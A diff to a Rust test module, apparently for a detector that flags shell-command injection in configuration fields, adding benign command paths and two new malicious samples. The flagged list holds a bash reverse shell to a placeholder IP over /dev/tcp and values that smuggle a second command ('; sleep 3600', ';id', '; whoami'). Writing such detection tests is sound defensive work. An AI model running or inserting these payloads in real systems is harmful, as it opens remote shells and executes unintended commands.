@@ -269,6 +269,8 @@ mod tests {
             ("scripts.clean", "rm -rf dist"),
             ("command", "/usr/bin/backup.sh > /var/log/backup.log 2>&1"),
             ("env.SHELL", "/bin/bash"),
+            ("config.smartctl_location", "/usr/sbin/smartctl"),
+            ("tasks.shell", "/usr/bin/mongo --port 27017 /tmp/init.js"),
             (
                 "content",
                 "#!/bin/bash\napt-get update\napt-get install -y nginx\n",
@@ -281,6 +283,8 @@ mod tests {
             ("script", "bash -i >& /dev/tcp/192.0.2.1/80 0>&1"),
             ("host", "8.8.8.8; sleep 3600"),
             ("note", "/bin/bash -c id"),
+            ("note", "/usr/sbin/x;id"),
+            ("shell", "x; whoami"),
         ] {
             assert!(json(name, text) >= 0.5, "{text}");
         }
